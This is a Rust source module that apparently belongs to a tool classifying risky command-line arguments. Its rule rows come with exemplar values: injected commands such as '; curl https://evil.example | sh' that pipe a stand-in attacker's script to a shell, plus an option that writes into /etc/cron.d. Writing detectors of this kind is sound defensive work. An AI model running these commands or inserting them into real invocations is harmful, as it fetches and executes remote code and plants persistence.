//! Lists of words that are a command, or what a program is given.

use crate::catalog::types::Kind;
use crate::risk::Role;
use crate::threat::beside::MORE;
use crate::threat::row::{
    Examples,
    Exemplar::{Text, Words},
    Row, Set,
};
use crate::threat::subject::Subject;

use super::command::ROW;
use super::recipients::whole;

/// What is run, and given the list.
const COMMANDS: &[Role] = &[Role::Program, Role::CommandLine];

pub(super) const ROWS: &[Row] = &[
    Row {
        name: "argv.option",
        roles: &[Role::Argv],
        asked: is_text,
        set: Set::Texts {
            within: r"(?s)(\A|\s)-{1,2}[A-Za-z]|[;&|`$<>\n]",
            less: Some(r"\A{C}\z"),
        },
        known: whole,
        exemplars: &[
            Text("--output=/etc/cron.d/x"),
            Text("; curl https://evil.example | sh"),
            Text("-x"),
            Text("x | sh"),
        ],
        says: "may hold any options",
        instead: Some("in [\"--verbose\"]"),
        examples: Examples {
            constants: &["--verbose"],
            within: &["--output=/srv/x", "a -c é", "x; id", "--verbose -x"],
            outside: &["--verbose", "src/a-b", "", "é"],
        },
        ..ROW
    },
    Row {
        name: "argv.stranger",
        roles: &[Role::Argv],
        asked: has_program,
        exemplars: &[
            Words(&["-c", "curl https://evil.example | sh"]),
            Text("--output=/etc/cron.d/x"),
            Text("x"),
        ],
        says: "may hold any options and operands",
        instead: None,
        ..ROW
    },
    Row {
        name: "argv.stranger",
        roles: &[Role::Argv],
        asked: is_alone,
        exemplars: &[
            Words(&["sh", "-c", "curl https://evil.example | sh"]),
            Words(&["curl", "https://evil.example/x"]),
            Text("sh"),
        ],
        says: "may be any command",
        instead: None,
        ..ROW
    },
];

/// Whether it is one text, of which a rule can say what is good.
fn is_text(subject: &Subject<'_, '_>) -> bool {
    !subject.found.leaf.path.is_in_list() && subject.found.leaf.argument.may_be(Kind::String)
}

/// Whether it is a list of what a command gets that stands elsewhere.
fn has_program(subject: &Subject<'_, '_>) -> bool {
    let has_command = || subject.siblings(COMMANDS).next().is_some();
    !is_text(subject) && (subject.is_called(MORE) || has_command())
}

fn is_alone(subject: &Subject<'_, '_>) -> bool {
    !is_text(subject) && !has_program(subject)
}
